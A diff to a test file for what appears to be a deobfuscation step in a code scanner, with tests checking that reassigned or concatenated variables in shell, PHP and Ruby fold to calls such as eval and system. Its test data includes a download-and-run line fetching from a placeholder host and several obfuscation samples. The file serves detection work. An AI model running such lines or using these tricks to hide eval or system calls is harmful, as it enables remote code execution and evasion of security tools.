@@ -89,8 +89,19 @@ def test_shell_multiline_payload_kept_on_one_line():
     assert out is not None and out.splitlines()[1] == "cd /tmp; wget http://x/a; sh a"
 
 
-def test_shell_variable_assigned_twice_is_not_folded():
-    assert folded("shell", 'c=eval\nc=echo\n$c "$x"\n') is None
+def test_shell_variable_folds_to_its_value_where_it_is_used():
+    """Values come from the semantic layer's shell adapter: the binding before the use, not "assigned once"."""
+    assert folded("shell", 'c=eval\nc=echo\n$c "$x"\n').splitlines()[2] == 'echo "$x"'
+    assert folded("shell", 'c=ev\nc="${c}al"\n$c "$x"\n').splitlines()[2] == 'eval "$x"'
+
+
+def test_shell_variable_of_unknown_value_is_not_folded():
+    assert folded("shell", 'c=$(cat /etc/cmd)\n$c "$x"\n') is None
+
+
+def test_php_and_ruby_values_follow_reassignment():
+    assert "system($x)" in folded("php", "<?php\n$f = 'sys';\n$f .= 'tem';\n$f($x);\n")
+    assert folded("ruby", "c = 'sys'\nc += 'tem(x)'\neval(c)\n").splitlines()[2] == "system(x)"
 
 
 def test_folded_payload_reaches_the_rules():
